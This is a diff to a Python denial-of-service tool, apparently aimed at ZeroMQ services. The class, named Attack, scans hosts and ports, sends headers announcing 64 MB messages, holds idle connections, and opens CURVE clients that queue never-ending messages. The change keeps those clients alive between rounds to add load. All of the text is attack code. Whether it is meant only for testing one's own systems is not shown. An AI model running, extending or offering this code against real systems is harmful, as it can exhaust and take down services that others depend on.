@@ -63,6 +63,7 @@ class Attack:
         self.stats = {"rounds": 0, "open": [], "junk_bytes": 0, "flood_bytes": 0, "refused": 0, "idle_held": 0}
         self.idle: list[tuple[tuple, socket.socket]] = []  # (target, connection)
         self.ctx = zmq.Context()
+        self.curve_clients: list[zmq.Socket] = []
 
     def send(self, target: tuple[str, int], *chunks: bytes) -> int:
         """Connect and send; the bytes the peer took before it hung up."""
@@ -77,6 +78,9 @@ class Attack:
         return sent
 
     def round(self) -> None:
+        for sock in self.curve_clients:
+            sock.close(0)
+        self.curve_clients = []
         found = scan(self.hosts, self.ports)
         self.stats["open"] = sorted(set(map(tuple, self.stats["open"])) | set(found))
         header = b"\x03" + struct.pack(">Q", 64 * 2**20)  # MORE | LONG, 64 MB announced
@@ -92,8 +96,8 @@ class Attack:
         self.stats["rounds"] += 1
 
     def curve_client(self, target: tuple[str, int]) -> None:
-        """A CURVE client with a key pair of its own (and the servers' public key, if given): queues the
-        first frames of a message that never ends, and goes."""
+        """A CURVE client with a key pair of its own (and the servers' public key, if given) that queues
+        the first frames of a message that never ends; it tries its handshake until the next round."""
         sock = self.ctx.socket(zmq.DEALER)
         sock.setsockopt(zmq.LINGER, 0)
         sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
@@ -104,7 +108,7 @@ class Attack:
                 sock.send(b"x" * 65536, zmq.NOBLOCK | zmq.SNDMORE)
             except zmq.Again:
                 break
-        sock.close(0)
+        self.curve_clients.append(sock)
 
     def hold_idle(self, found: list[tuple[str, int]]) -> None:
         """Keep ``--idle`` connections open, an even share on each open port, re-opening those the peers
@@ -140,7 +144,7 @@ class Attack:
     def close(self) -> None:
         for _, s in self.idle:
             s.close()
-        self.ctx.destroy(0)
+        self.ctx.destroy(0)  # (the CURVE clients with it)
 
 
 def main(argv=None) -> int:
